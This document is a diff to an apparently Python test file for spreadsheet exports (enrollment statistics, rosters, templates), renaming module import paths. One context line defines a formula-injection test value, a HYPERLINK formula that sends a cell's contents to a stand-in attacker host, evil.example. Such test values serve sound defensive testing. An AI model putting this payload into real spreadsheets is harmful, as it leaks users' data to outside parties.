@@ -8,9 +8,9 @@ from types import SimpleNamespace
 
 from openpyxl import load_workbook
 
-from core.enrollment_sheets import StatisticsRow, statistics_xlsx
-from core.fake_members import HEADERS
-from core.workbooks import ROSTER_COLUMNS, errors_xlsx, roster_xlsx, template_xlsx
+from documents.enrollment_sheets import StatisticsRow, statistics_xlsx
+from documents.fake_members import HEADERS
+from documents.workbooks import ROSTER_COLUMNS, errors_xlsx, roster_xlsx, template_xlsx
 from models.states import CardType, Gender, IdType
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
